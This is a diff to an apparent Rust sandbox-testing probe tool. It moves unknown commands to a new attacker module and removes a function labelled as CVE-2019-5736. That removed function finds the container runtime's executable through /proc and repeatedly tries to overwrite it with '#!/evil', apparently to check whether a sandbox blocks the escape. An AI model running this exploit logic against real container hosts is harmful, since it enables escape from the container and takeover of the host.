@@ -2,12 +2,13 @@
 //!
 //! It prints what the kernel answers, and never judges.
 
+mod attacker;
+
 use crate::kernel;
 use nix::errno::Errno;
 use std::{
     fs::{self, File},
-    io::{Read, Seek, SeekFrom, Write},
-    os::fd::AsRawFd,
+    io::Read,
     process::ExitCode,
 };
 
@@ -16,13 +17,14 @@ pub(crate) fn main(words: &[String]) -> ExitCode {
     match words.as_slice() {
         ["syscall", number, args @ ..] => syscalls(&[&[*number], args].concat()),
         ["fds"] => fds(),
-        ["exe", marker] => return overwrite_exe(marker),
         ["readable", names @ ..] => readable(names),
         ["notify", text] => notify(text),
         ["writable", names @ ..] => writable(names),
         _ => {
-            eprintln!("probe: what is {words:?}?");
-            return ExitCode::from(2);
+            return attacker::main(&words).unwrap_or_else(|| {
+                eprintln!("probe: what is {words:?}?");
+                ExitCode::from(2)
+            });
         }
     }
     ExitCode::SUCCESS
@@ -84,47 +86,4 @@ fn writable(names: &[&str]) {
     for name in names {
         tell(name, File::options().write(true).open(name).map(|_| ()));
     }
-}
-
-/// CVE-2019-5736: finds another process of this pid namespace that is the runtime, holds its executable, and writes to it
-/// when it is no longer busy. Says `held` in the file `marker` once it has a hold, then `wrote` or the refusal.
-fn overwrite_exe(marker: &str) -> ExitCode {
-    let mut told = File::create(marker).unwrap();
-    let own = fs::read_link("/proc/self/exe").unwrap();
-    let held = loop {
-        let all = fs::read_dir("/proc").unwrap();
-        let pids = all.filter_map(|entry| entry.unwrap().file_name().to_str()?.parse::<i32>().ok());
-        let exe = pids.filter(|pid| *pid != 1).find_map(|pid| {
-            let path = format!("/proc/{pid}/exe");
-            let target = fs::read_link(&path).ok()?;
-            (target != own).then(|| File::open(&path).ok())?
-        });
-        if let Some(exe) = exe {
-            break exe;
-        }
-        if fs::exists("/out/give-up").unwrap() {
-            writeln!(told, "never").unwrap();
-            return ExitCode::SUCCESS;
-        }
-        std::thread::yield_now();
-    };
-    writeln!(told, "held").unwrap();
-    let path = format!("/proc/self/fd/{}", held.as_raw_fd());
-    let answer = loop {
-        let attempt = File::options().write(true).open(&path).and_then(|mut file| {
-            file.seek(SeekFrom::Start(0))?;
-            file.write_all(b"#!/evil\n")
-        });
-        match attempt {
-            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) && !fs::exists("/out/give-up").unwrap() => {
-                std::thread::yield_now();
-            }
-            other => break other,
-        }
-    };
-    match answer {
-        Ok(()) => writeln!(told, "wrote").unwrap(),
-        Err(error) => writeln!(told, "{error}").unwrap(),
-    }
-    ExitCode::SUCCESS
 }
